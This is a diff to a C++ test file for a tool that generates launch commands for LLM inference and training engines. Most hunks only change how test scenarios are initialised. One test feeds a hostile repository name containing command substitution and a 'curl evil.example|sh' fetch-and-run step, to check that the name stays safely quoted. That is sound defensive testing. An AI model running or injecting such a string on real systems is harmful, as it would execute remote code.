@@ -48,7 +48,7 @@ TEST_CASE("launch: repo ids and GGUF file names") {
 }
 
 TEST_CASE("launch: vLLM with cardfit's layout, context and concurrency") {
-  Scenario s;
+  Scenario s = test::formula::scenario();
   s.model = "llama-3-70b";
   s.kv_precision = "fp8";
   s.context = 8192;
@@ -68,7 +68,7 @@ TEST_CASE("launch: vLLM with cardfit's layout, context and concurrency") {
 }
 
 TEST_CASE("launch: SGLang's static memory fraction leaves the reserve cardfit counts") {
-  Scenario s;
+  Scenario s = test::formula::scenario();
   s.engine = "sglang";
   const Row r = row(s, "a100-80g");
   REQUIRE(r.launch.size() == 1);
@@ -86,7 +86,7 @@ TEST_CASE("launch: SGLang's static memory fraction leaves the reserve cardfit co
 }
 
 TEST_CASE("launch: llama-server with offloaded layers, MoE experts on the CPU, and an Ollama Modelfile") {
-  Scenario s;
+  Scenario s = test::formula::scenario();
   s.model = "qwen3-32b";
   s.precision = "q4_k_m";
   s.engine = "llama.cpp";
@@ -120,7 +120,7 @@ TEST_CASE("launch: llama-server with offloaded layers, MoE experts on the CPU, a
 }
 
 TEST_CASE("launch: layer split over cards gives llama-server an even tensor split") {
-  Scenario s;
+  Scenario s = test::formula::scenario();
   s.model = "llama-3-70b";
   s.precision = "q4_k_m";
   s.engine = "llama.cpp";
@@ -133,7 +133,7 @@ TEST_CASE("launch: layer split over cards gives llama-server an even tensor spli
 }
 
 TEST_CASE("launch: training gets a DeepSpeed config, its torchrun line and a LLaMA-Factory YAML") {
-  Scenario s;
+  Scenario s = test::formula::scenario();
   s.task = Task::Lora;
   s.model = "qwen2.5-7b";
   s.batch = 2;
@@ -171,7 +171,7 @@ TEST_CASE("launch: trtllm-serve and LMDeploy's api_server with cardfit's layout 
   // Flags: TensorRT-LLM's trtllm-serve reference (--tp_size, --pp_size, --max_seq_len, --max_batch_size,
   // --kv_cache_free_gpu_memory_fraction); LMDeploy's `lmdeploy serve api_server -h` (--tp, --session-len,
   // --max-batch-size, --cache-max-entry-count). The fractions are the engines' memory_utilization.
-  Scenario s;
+  Scenario s = test::formula::scenario();
   s.model = "llama-3-70b";
   s.context = 8192;
   s.engine = "tensorrt-llm";
@@ -220,7 +220,7 @@ TEST_CASE("launch: the catalog's AWQ, FP8 and GGUF repositories where it names t
     REQUIRE(l.size() == 1);
     return l[0].text;
   };
-  Scenario s;
+  Scenario s = test::formula::scenario();
   s.precision = "int4";
   CHECK(first(s).rfind("vllm serve " + bundled.awq_repo + " --tensor-parallel-size 1", 0) == 0);
   s.precision = "fp8";
@@ -235,11 +235,11 @@ TEST_CASE("launch: the catalog's AWQ, FP8 and GGUF repositories where it names t
 }
 
 TEST_CASE("launch: nothing for rows that do not fit or engines without a command here") {
-  Scenario s;
+  Scenario s = test::formula::scenario();
   s.model = "llama-3.1-405b";
   s.cards = 1;
   CHECK(row(s, "rtx-4090").launch.empty());
-  Scenario t;
+  Scenario t = test::formula::scenario();
   t.engine = "transformers";
   CHECK(row(t, "a100-80g").launch.empty());
 }
@@ -269,7 +269,7 @@ TEST_CASE("launch: a hostile repository name stays one quoted word, in every eng
   m->gguf_repo = "it's";
   const std::string quoted = "'meta-llama/x $(touch /tmp/p) ; curl -s evil.example|sh #'";
   for (const char* engine : {"vllm", "sglang", "tensorrt-llm", "lmdeploy", "llama.cpp"}) {
-    Scenario s;
+    Scenario s = test::formula::scenario();
     s.engine = engine;
     s.precision = std::string(engine) == "llama.cpp" ? "q4_k_m" : "bf16";
     s.gpu = "a100-80g";
@@ -284,7 +284,7 @@ TEST_CASE("launch: a hostile repository name stays one quoted word, in every eng
       CHECK(l[0].text.find(" " + quoted + " ") != std::string::npos);
     }
   }
-  Scenario s;
+  Scenario s = test::formula::scenario();
   s.precision = "int4";
   s.gpu = "a100-80g";
   s.explain = false;
@@ -306,7 +306,7 @@ TEST_CASE("launch: a YAML value that YAML would read as another type is quoted")
   Catalog c = catalog();
   Model* m = const_cast<Model*>(c.find_model("qwen2.5-7b"));
   m->hf_repo = "yes";
-  Scenario s;
+  Scenario s = test::formula::scenario();
   s.task = Task::Lora;
   s.gpu = "a100-80g";
   s.cards = 1;
@@ -318,7 +318,7 @@ TEST_CASE("launch: a YAML value that YAML would read as another type is quoted")
 }
 
 TEST_CASE("launch: several machines read their rank and the master's address from the shell") {
-  Scenario s;
+  Scenario s = test::formula::scenario();
   s.task = Task::Full;
   s.model = "qwen2.5-7b";
   s.cards = 16;
@@ -338,7 +338,7 @@ TEST_CASE("launch: several machines read their rank and the master's address fro
 // to paste; MXFP4 on it, and NVFP4 on an H100, keep theirs.
 TEST_CASE("launch: no kernel for the weights on the card, no command, and the estimate says why") {
   const auto one = [](const std::string& precision, const std::string& gpu) {
-    Scenario s;
+    Scenario s = test::formula::scenario();
     s.model = "qwen3-32b";
     s.precision = precision;
     s.gpu = gpu;
